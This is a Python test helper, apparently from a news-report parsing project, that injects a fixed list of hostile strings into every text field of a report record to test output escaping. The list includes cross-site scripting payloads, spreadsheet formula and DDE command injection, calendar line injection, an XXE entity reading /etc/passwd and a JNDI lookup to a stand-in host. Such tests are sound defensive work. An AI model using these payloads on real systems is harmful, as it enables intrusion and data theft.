"""A reading in which every word of a report is hostile, and what hostile words are."""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from typing import Any, TypeVar

from dateline.terms import Article, Evidence, Part, Reading, Statement, Timex, When
from tests.doors.cli import builders

T = TypeVar("T")

SCRIPT = "<script>alert(1)</script>"
HOSTILE = (
    SCRIPT,
    "\"'><img src=x onerror=alert(1)>",
    "</style></title></textarea><svg onload=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[here](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example> # - * | `a` ~~b~~",
    '=HYPERLINK("http://evil.example","pay")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil",
    "x\nATTACH:file:///etc/passwd\\n;,:",
    "]]><!-- --><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "\x00\x07\x1b[31mred\x1b]0;title\x07\u202egnp.exe\u2028\u2029\ufeff\ufffe",
    "{{ 7 * 7 }}{% raw %}${jndi:ldap://evil.example}",
    "half a pair \ud83d of surrogates",
)
"""What a page may put into a title, a byline, a file name, a name or a text."""
_WORDS = frozenset(
    {"title", "publisher", "agency", "file", "url", "canonical_url", "place", "owner", "what", "where", "before", "after",
     "name", "value", "unit", "speaker_text", "to", "basis", "role"}
)  # fmt: skip
_LISTS = frozenset({"bylines", "owners", "also", "roles", "manner", "notes"})
_KEPT = (When,)


def poisoned(words: str, reading: Reading | None = None) -> Reading:
    """A reading that has `words` in every text that comes out of a report; its evidence still holds."""
    return _poison(reading or builders.reading(), words)


def _poison(record: T, words: str) -> T:
    if isinstance(record, tuple):
        return tuple(_poison(one, words) for one in record)  # type: ignore[return-value]
    if not is_dataclass(record) or isinstance(record, (type, *_KEPT)):
        return record
    made: dict[str, Any] = {}
    for field in fields(record):
        value = getattr(record, field.name)
        if not field.init or field.name == "parsed":
            continue
        if field.name in _WORDS and (value is None or isinstance(value, str)):
            made[field.name] = words + (value or "")
        elif field.name in _LISTS and isinstance(value, tuple):
            made[field.name] = (words, *(words + one for one in value))
        else:
            made[field.name] = _poison(value, words)
    if isinstance(record, Article):
        made["text"] = words + record.text
    elif isinstance(record, (Evidence, Part, Statement, Timex)):
        made |= {"start": 0, "end": len(words) + record.end, "text": words + _opening(record)}
    elif "text" in made:
        made["text"] = words + made["text"]
    return replace(record, **made)


def _opening(record: Evidence | Part | Statement | Timex) -> str:
    article = next(one for one in builders.ALL if one.id == record.article)
    return article.text[: record.end]
